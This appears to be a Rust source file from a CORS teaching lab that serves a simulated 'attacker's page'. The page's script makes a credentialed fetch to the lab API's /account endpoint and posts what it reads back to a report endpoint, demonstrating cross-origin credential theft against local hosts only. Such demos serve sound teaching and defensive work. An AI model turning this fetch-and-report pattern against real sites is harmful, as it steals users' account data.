//! The "attacker's page" of the `/why` credentials demo, served by the app
//! origin at `GET /api/attacker` — under whichever host the browser used,
//! so the same page plays a page of the API's own site (`localhost:<app
//! port>` next to `localhost:<api port>`) or of another site (`127.0.0.1`).
//!
//! Opened as a top-level page, as a victim would open any link, its script
//! sends `fetch(<API>/account, { credentials: "include" })`, shows what it
//! got, and posts that text to its own origin (`POST /api/attacker/report`),
//! which is what a real attacker would do with stolen data. The server log
//! then holds both halves of the story: the API's entry (did the cookie come
//! along? what did the server answer?) and the report (what the script could
//! actually read).
//!
//! The page's script takes its parameters from its own address and checks
//! them (tags of letters, digits, `-` and `_`; a plain host name or address)
//! before building one URL on the lab's API port; the server writes only
//! that port number into the page.

use axum::extract::State;
use axum::http::header::CONTENT_TYPE;
use axum::http::{HeaderValue, StatusCode};
use axum::response::{Html, IntoResponse, Response};
use cors_core::wire::Role;

use crate::state::AppState;

/// `GET`: the attacker's page.
pub const ATTACKER_PATH: &str = "/api/attacker";
/// `POST`: where the page sends what it could read (body: that text).
pub const REPORT_PATH: &str = "/api/attacker/report";
/// The query parameter naming the API's host (the victim's lab host).
pub const API_HOST_PARAM: &str = "api_host";

const PORT_PLACEHOLDER: &str = "__API_PORT__";

const PAGE: &str = r#"<!doctype html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>The attacker's page (CORS Lab)</title>
<style>
  body { font-family: system-ui, sans-serif; margin: 2rem; max-width: 46rem; color: #1a1a1a; background: #fff7ed; }
  h1 { font-size: 1.4rem; }
  code, output { font-family: ui-monospace, monospace; overflow-wrap: anywhere; }
  output { display: block; background: #fff; border: 1px solid #9a3412; padding: .5rem; white-space: pre-wrap; }
</style>
</head>
<body>
<main>
<h1>The attacker's page</h1>
<p>You opened a page that is not the API's. In CORS Lab the demo server plays it, at
<code id="here"></code>. As soon as it loaded, its script sent this request, asking the
browser to attach your cookies for the API:</p>
<p><code id="sent" data-testid="attacker-sent">(the script has not run)</code></p>
<h2>What the script got</h2>
<output id="got" data-testid="attacker-got">waiting…</output>
<h2>What it sent home to the attacker's server</h2>
<output id="reported" data-testid="attacker-reported">waiting…</output>
<p>Go back to the lab's tab: its server log shows what the API received, and whether your
cookie came along.</p>
</main>
<script>
(async () => {
  const API_PORT = __API_PORT__;
  const params = new URLSearchParams(location.search);
  const tag = (name) => {
    const value = params.get(name) || "";
    return /^[A-Za-z0-9_-]{1,60}$/.test(value) ? value : "";
  };
  const apiHost = params.get("api_host") || location.hostname;
  const hostOk = /^([A-Za-z0-9.-]{1,253}|\[[0-9A-Fa-f:.]{2,45}\])$/.test(apiHost);
  const query = new URLSearchParams();
  for (const name of ["learner", "case"]) {
    if (tag(name)) query.set(name, tag(name));
  }
  const show = (id, text) => { document.getElementById(id).textContent = text; };
  show("here", location.origin);
  if (!hostOk) {
    show("got", "not run: api_host is not a host name");
    show("reported", "nothing");
    document.body.dataset.done = "true";
    return;
  }
  const url = "http://" + apiHost + ":" + API_PORT + "/account?" + query;
  show("sent", 'fetch("' + url + '", { credentials: "include" })');
  let got;
  try {
    const response = await fetch(url, { credentials: "include" });
    got = "read it: status " + response.status + ", " + (await response.text());
  } catch (error) {
    got = String(error);
  }
  show("got", got);
  try {
    await fetch("/api/attacker/report?" + query, { method: "POST", body: got });
    show("reported", got);
  } catch (error) {
    show("reported", "the report failed: " + String(error));
  }
  document.body.dataset.done = "true";
})();
</script>
</body>
</html>
"#;

/// `GET /api/attacker`: the page, with the API origin's port written in.
pub(crate) async fn attacker_page(State(state): State<AppState>) -> Response {
    let page = PAGE.replace(PORT_PLACEHOLDER, &state.port(Role::Api).to_string());
    let mut response = Html(page).into_response();
    response.headers_mut().insert(
        CONTENT_TYPE,
        HeaderValue::from_static("text/html; charset=utf-8"),
    );
    response
}

/// `POST /api/attacker/report`: the attacker's server receiving what the
/// page read; the log keeps the body, nothing else does.
pub(crate) async fn report() -> StatusCode {
    StatusCode::NO_CONTENT
}
